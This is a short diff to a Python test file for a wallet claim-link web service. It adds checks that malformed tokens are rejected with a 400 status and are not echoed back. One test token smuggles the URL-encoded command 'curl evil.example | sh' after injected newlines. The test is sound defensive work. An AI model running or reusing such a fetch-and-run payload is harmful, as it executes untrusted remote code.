@@ -448,3 +448,6 @@ def test_who_clicks_on_a_link_is_told_what_it_is_for(tmp_path: Path) -> None:
         assert (status, headers["content-type"]) == (200, "text/plain; charset=utf-8")
         assert f"intaglio wallet receive {link}" in body.decode()
         assert running.ask("GET", f"/claim/{link.token}")[0] == 200
+        for token in ("x", "x" * 43 + "%0A%0Acurl%20evil.example%20%7C%20sh", "x" * 400):
+            status, body, _ = running.ask("GET", f"/claim/{token}", accept="text/html")
+            assert (status, b"curl" in body) == (400, False)
